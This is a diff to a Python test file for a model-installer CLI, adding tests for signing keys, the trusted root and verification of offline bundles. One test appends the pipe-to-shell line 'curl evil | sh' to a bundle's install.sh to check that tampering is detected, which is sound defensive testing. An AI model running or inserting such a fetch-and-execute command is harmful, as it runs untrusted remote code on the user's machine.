@@ -6,6 +6,7 @@ message, and that no traceback ever reaches the user.
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import re
@@ -101,7 +102,7 @@ def test_keys_generate_list_trust_untrust(home, tmp_path):
     pub.write_bytes(public_pem(acme_key))
     assert ok(root, "keys", "trust", str(pub)) == f"trusted key acme (user): {acme}\n"
     listed = [line.split() for line in ok(root, "keys", "list").splitlines()]
-    assert listed == [["KEYID", "NAME", "ORIGIN", "REVOKED"], [RELEASE_KEYID, "pennello-release-2026", "shipped"],
+    assert listed == [["KEYID", "NAME", "ORIGIN", "REVOKED"], [RELEASE_KEYID, "pennello-release-2026", "root"],
                       [acme, "acme", "user"], [office, "office", "user"]]
 
     assert ok(root, "keys", "untrust", acme[:8]) == f"revoked key {acme}\n"
@@ -174,6 +175,40 @@ def test_bundle_export_and_install_from_it_on_a_second_home(home, tmp_path):
     assert get_paths(offline).trusted_keys_dir.joinpath(f"{office}.pub").is_file()
 
 
+def test_keys_root_show_reads_the_shipped_root(home):
+    shown = ok(_root(home), "keys", "root", "show").splitlines()
+    assert re.fullmatch(r"trusted root v1 \(shipped with pennello\), expires \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", shown[0])
+    assert shown[1:] == ["  role root: 1 of 1 key(s)", f"    {RELEASE_KEYID}  pennello-release-2026",
+                         "  role manifests: 1 of 1 key(s)", f"    {RELEASE_KEYID}  pennello-release-2026"]
+    as_json = json.loads(ok(_root(home), "keys", "root", "show", "--json"))
+    assert as_json["signed"]["_type"] == "pennello-root" and as_json["signatures"][0]["keyid"] == RELEASE_KEYID
+
+
+def test_bundle_export_with_wheels_then_verify_on_a_second_home(home, tmp_path):
+    root, offline = _root(home), tmp_path / "offline"
+    ok(root, "install", "pennello-tiny")
+    office = re.search(r"[0-9a-f]{64}", ok(root, "keys", "generate", "office")).group(0)
+    wheelhouse = tmp_path / "wheelhouse"
+    wheelhouse.mkdir()
+    (wheelhouse / "tinyc-1.0-py3-none-any.whl").write_bytes(b"PK\x05\x06" + b"\0" * 18)  # an empty zip
+    bundle = tmp_path / "bundle"
+    exported = ok(root, "bundle", "export", "pennello-tiny", "--out", str(bundle), "--with-wheels",
+                  "--key", "office", "--wheels-from", str(wheelhouse)).splitlines()
+    lock_sha = hashlib.sha256((bundle / "lock.txt").read_bytes()).hexdigest()
+    assert exported == [f"bundle written to {bundle}",
+                        f"  lock.txt sha256 {lock_sha}  (for a first install: PENNELLO_LOCK_SHA256)"]
+
+    untrusted = pennello(offline, "bundle", "verify", str(bundle))
+    assert untrusted.returncode == 3
+    assert untrusted.stderr.startswith(f"error: bundle manifest is signed only by keys not trusted here: {office};")
+    ok(offline, "keys", "trust", str(bundle / "keys" / f"{office}.pub"))
+    assert ok(offline, "bundle", "verify", str(bundle)).splitlines() == [
+        f"{bundle}: OK, 4 files as signed", f"  signer   {office} (user) {office}"]
+    (bundle / "install.sh").write_text((bundle / "install.sh").read_text() + "curl evil | sh\n")
+    changed = pennello(offline, "bundle", "verify", str(bundle))
+    assert changed.returncode == 4 and changed.stderr.startswith("error: install.sh: ")
+
+
 BAD_INPUT = [
     (["install", "nope"], 4, "error: model 'nope' is not in the catalog; known models: "),
     (["install"], 2, "Error: name a model (see `pennello models`), or use --from DIR or --manifest FILE"),
@@ -202,6 +237,18 @@ BAD_INPUT = [
     (["manifest", "sign", "{tmp}/m.json", "--key", "nokey"], 3, "error: no signing key 'nokey': it is neither "
                                                                 "a file nor a key made by `pennello keys generate`"),
     (["bogus"], 2, "Error: No such command 'bogus'."),
+    (["bundle", "export", "pennello-tiny", "--out", "{tmp}/b", "--with-wheels"], 2,
+     "Error: --with-wheels needs --key KEYNAME: the wheels are signed so the target machine can check them "
+     "before pip runs"),
+    (["bundle", "verify", "{tmp}"], 5, "error: {tmp} has no bundle.json: its wheels are not signed (export with "
+                                       "`pennello bundle export --with-wheels --key KEYNAME`)"),
+    (["keys", "root", "update"], 2, "Error: Missing argument 'FILES...'."),
+    (["keys", "root", "update", "{tmp}/m.json"], 3, "error: root file is not valid UTF-8 JSON: "),
+    (["keys", "root", "draft", "{tmp}/m.json"], 2, "Error: {tmp}/m.json exists already; give a new file name"),
+    (["keys", "root", "draft", "{tmp}/d.json", "--threshold", "manifests=2"], 3,
+     "error: root v2: role 'manifests' threshold must be 1 to 1 (its number of keys), not 2"),
+    (["keys", "root", "draft", "{tmp}/d.json", "--remove", "ffffffff"], 3,
+     "error: 'ffffffff' names no key of root v1; give 8 or more hex digits of a key id it lists"),
 ]
 
 
